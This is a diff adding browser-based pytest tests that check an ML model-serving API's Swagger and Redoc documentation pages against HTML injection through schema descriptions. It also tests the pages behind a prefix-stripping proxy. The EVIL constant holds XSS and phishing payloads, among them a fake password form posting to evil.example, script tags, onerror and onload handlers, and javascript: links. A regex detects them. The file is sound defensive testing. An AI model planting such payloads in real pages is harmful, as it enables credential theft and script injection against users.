@@ -2,11 +2,20 @@
 
 from __future__ import annotations
 
+import json
 import os
+import re
 import shutil
 import subprocess
+from pathlib import Path
 
+import numpy as np
 import pytest
+from sklearn.linear_model import LinearRegression
+
+from tests.support.proxy import stripping_proxy
+
+pytestmark = pytest.mark.anyio
 
 FLAGS = [
     "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
@@ -27,12 +36,95 @@ def chromium():
     return found
 
 
+OPERATIONS = ("/v1/models/{model}/predict", "/audit/predictions", "Predict one row", "Who you are")
+STATIC = Path(__file__).parents[2] / "api/static"
+#: What a schema may hold, in Markdown and in HTML, that must be no more than words to whoever reads it.
+EVIL = (
+    'CANARY <form action="https://evil.example/take"><input name="password"><button>Sign in</button></form>'
+    " <script>document.title = 'owned'</script> <img src=x onerror=\"document.title = 'owned'\">"
+    ' <a href="javascript:document.title=1">click</a> [click](javascript:document.title=1) <javascript:alert(1)>'
+    ' <iframe src="https://evil.example"></iframe> <style>#ui{display:none}</style> <svg onload="alert(1)"></svg>'
+    ' \\<form id="escaped"></form> <div style="position:fixed;inset:0">over</div> <meta http-equiv="refresh" content="0;/x">'
+)
+#: None of this is in a page that only shows those words. The viewers' own forms and images have other attributes.
+ALIVE = re.compile(
+    r"<form[^>]*(?:evil|escaped)|<input[^>]*password|<button[^>]*>Sign in|<iframe|<img[^>]*onerror|<svg[^>]*onload"
+    r"|<a[^>]*href=[\"']?javascript:|<style[^>]*>#ui|<div[^>]*position: ?fixed; ?inset|<meta http-equiv=.refresh|<title>(?!Adyton)",
+    re.IGNORECASE,
+)
+
+
+def dumped(chromium: str, tmp_path, url: str, *flags: str) -> str:
+    """The page's elements, once its scripts have run."""
+    command = [chromium, *FLAGS, *flags, f"--user-data-dir={tmp_path}/profile", "--dump-dom", url]
+    run = subprocess.run(command, capture_output=True, text=True, check=True, timeout=300)
+    assert "Refused to" not in run.stderr
+    return run.stdout
+
+
+def shows(page: str, text: str) -> bool:
+    return text in page or text.replace("/", "/<wbr>") in page
+
+
+@pytest.fixture
+def evil_site(site):
+    """A public model whose every description is an attack on its reader."""
+    sample = np.array([[0.0], [1.0], [2.0]])
+    schema = {"description": EVIL, "properties": {"x": {"description": EVIL, "title": EVIL}}}
+    site.model("evil", LinearRegression().fit(sample, [1.0, 2.0, 3.0]), sample, ["x"], schema=schema)
+    return site
+
+
+@pytest.mark.parametrize("page", ["docs", "redoc"])
+def test_a_models_description_is_words_on_the_pages(evil_site, serve, chromium, tmp_path, page):
+    """No form, script, image, frame, style or `javascript:` of it lives; the operations are shown all the same."""
+    server = serve(evil_site, ADYTON_DEFAULT_MODEL="evil")
+    shown = dumped(chromium, tmp_path, f"{server.url}/{page}")
+    assert shows(shown, OPERATIONS[0])
+    assert page == "docs" or "CANARY" in shown
+    assert not ALIVE.search(shown), ALIVE.search(shown)
+
+
+@pytest.mark.parametrize("viewer", ["swagger", "redoc"])
+async def test_a_models_description_is_words_to_each_viewer(evil_site, chromium, tmp_path, viewer):
+    """With everything unfolded, and without the policy of our pages, which is a second wall."""
+    async with evil_site.client() as client:
+        served = (await client.get("/openapi.json")).json()
+    body = served["paths"]["/predict"]["post"]["requestBody"]["content"]["application/json"]
+    body["schema"] = {"$ref": "#/components/schemas/Row.evil"}
+    served["info"]["description"] = EVIL
+    document = json.dumps(served)
+    show = {
+        "swagger": "SwaggerUIBundle({spec, dom_id: '#ui', defaultModelsExpandDepth: 9, defaultModelExpandDepth: 9,"
+                   " docExpansion: 'full', defaultModelRendering: 'model'})",
+        "redoc": "Redoc.init(spec, {sanitize: true, untrustedSpec: true}, document.getElementById('ui'))",
+    }[viewer]  # fmt: skip
+    library = {"swagger": "swagger-ui-bundle.js", "redoc": "redoc.standalone.js"}[viewer]
+    for name in (library, "safe_document.js"):
+        shutil.copy(STATIC / name, tmp_path / name)
+    script = f"const spec = withoutHtml({document}); {show};"
+    (tmp_path / "show.js").write_text(script)
+    scripts = "".join(f'<script src="{name}"></script>' for name in (library, "safe_document.js", "show.js"))
+    page = tmp_path / "page.html"
+    page.write_text(f'<!doctype html><meta charset="utf-8"><title>Adyton</title><div id="ui"></div>{scripts}')
+    shown = dumped(chromium, tmp_path, page.as_uri())
+    assert shown.count("CANARY") >= 2, "in the introduction and in the schema"
+    assert not ALIVE.search(shown.replace(script, "")), ALIVE.search(shown)
+
+
+@pytest.mark.parametrize("page", ["docs", "docs/", "redoc"])
+def test_the_pages_work_behind_a_proxy_that_strips_a_prefix(site, serve, chromium, tmp_path, page):
+    """From either spelling, with the prefix in the document's `servers`."""
+    with stripping_proxy("/models/v3", serve(site, ADYTON_ROOT_PATH="/models/v3").url) as url:
+        shown = dumped(chromium, tmp_path, f"{url}/models/v3/{page}")
+    assert all(shows(shown, text) for text in OPERATIONS)
+    assert "/models/v3" in shown
+
+
 @pytest.mark.parametrize("page", ["docs", "redoc"])
 def test_the_pages_show_the_operations_without_a_network(site, serve, chromium, tmp_path, page):
     """Rendered by scripts of ours alone, under the page's own policy."""
     server = serve(site)
-    command = [chromium, *FLAGS, f"--user-data-dir={tmp_path}/profile", "--dump-dom", f"{server.url}/{page}"]
-    run = subprocess.run(command, capture_output=True, text=True, check=True, timeout=120)
-    for text in ("/v1/models/{model}/predict", "/audit/predictions", "Predict one row", "Who you are"):
-        assert text.replace("/", "/<wbr>") in run.stdout or text in run.stdout, text
-    assert "Refused to" not in run.stderr
+    shown = dumped(chromium, tmp_path, f"{server.url}/{page}")
+    for text in OPERATIONS:
+        assert shows(shown, text), text
